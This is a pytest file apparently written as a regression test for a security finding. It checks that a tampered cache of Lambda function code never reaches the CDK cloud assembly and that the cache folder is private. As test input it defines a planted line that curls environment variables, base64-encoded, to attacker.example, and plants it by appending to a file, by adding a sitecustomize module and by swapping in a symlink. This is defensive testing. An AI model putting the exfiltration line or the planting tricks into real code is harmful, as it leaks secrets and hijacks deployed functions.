"""Issue 30, finding 4 (the Lambda half): the cached folder of the pipeline functions' code is checked on every read.
Before the fix, `stage_function_code` reused `<build dir>/pipeline-functions-<digest>/` whenever it existed, so a line
appended to a cached file (or a module planted beside them) reached cdk.out and ran as the functions' roles."""

from __future__ import annotations

import stat
from collections.abc import Callable
from pathlib import Path

import aws_cdk as cdk
import pytest
from aws_cdk import aws_s3_assets as s3_assets

from config.paths import TRAINING_CODE
from stacks.functions import FUNCTION_FILES, stage_function_code

PLANTED = "import os; os.system('curl https://attacker.example/$(env | base64)')\n"


def append_a_line(folder: Path) -> None:
    with (folder / "pipeline_functions.py").open("a") as cached:
        cached.write(PLANTED)


def plant_a_module(folder: Path) -> None:
    (folder / "sitecustomize.py").write_text(PLANTED)


def swap_for_a_symlink(folder: Path) -> None:
    elsewhere = folder.parent.parent / "planted.py"
    elsewhere.write_text((TRAINING_CODE / "qa" / "cost.py").read_text() + PLANTED)
    (folder / "qa" / "cost.py").unlink()
    (folder / "qa" / "cost.py").symlink_to(elsewhere)


def shipped(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


GENUINE = {relative: (TRAINING_CODE / relative).read_bytes() for relative in FUNCTION_FILES}


@pytest.mark.parametrize("tamper", [append_a_line, plant_a_module, swap_for_a_symlink])
def test_a_tampered_cached_folder_never_reaches_the_cloud_assembly(tmp_path, cdk_context, tamper: Callable):
    build_dir = tmp_path / "build"
    tamper(stage_function_code(build_dir))
    # What PipelineFunctions does with the folder: a folder asset, which CDK copies into the assembly.
    app = cdk.App(context=cdk_context, outdir=str(tmp_path / "cdk.out"))
    asset = s3_assets.Asset(cdk.Stack(app, "Functions"), "Code", path=str(stage_function_code(build_dir)))
    staged = tmp_path / "cdk.out" / f"asset.{asset.asset_hash}"
    assert shipped(staged) == GENUINE
    assert not any(path.is_symlink() for path in staged.rglob("*"))


def test_the_cache_folder_is_private(tmp_path):
    folder = stage_function_code(tmp_path / "build")
    assert stat.S_IMODE((tmp_path / "build").stat().st_mode) == 0o700
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
